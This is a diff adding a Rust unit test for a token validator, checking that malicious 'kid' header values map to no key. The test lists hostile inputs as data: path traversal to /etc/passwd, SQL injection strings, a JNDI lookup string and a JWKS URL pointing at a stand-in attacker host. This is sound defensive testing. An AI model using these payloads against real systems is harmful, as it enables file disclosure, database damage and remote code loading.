@@ -373,3 +373,28 @@ fn an_opaque_token_is_named_as_such() {
     }
     assert_eq!(fault("mmt"), Some(TokenError::NotCompact));
 }
+
+/// Hazard 24. A key id is a key into a map and nothing else.
+#[test]
+fn a_key_id_that_is_meant_for_something_else_names_no_key() {
+    for kid in [
+        "../../../../etc/passwd",
+        "/dev/null",
+        "' OR '1'='1",
+        "1; DROP TABLE keys; --",
+        "https://evil.example/jwks",
+        "EdDSA\0",
+        "EdDSA ",
+        " EdDSA",
+        "eddsa",
+        "*",
+        "%45dDSA",
+        "${jndi:ldap://evil.example/a}",
+        "\u{202e}EdDSA",
+    ] {
+        assert_eq!(fault(&Token::good().header("kid", kid).signed()), Some(TokenError::UnknownKey), "{kid:?}");
+    }
+    for number in 0..10_000 {
+        assert_eq!(fault(&Token::good().header("kid", format!("EdDSA-{number}")).signed()), Some(TokenError::UnknownKey));
+    }
+}
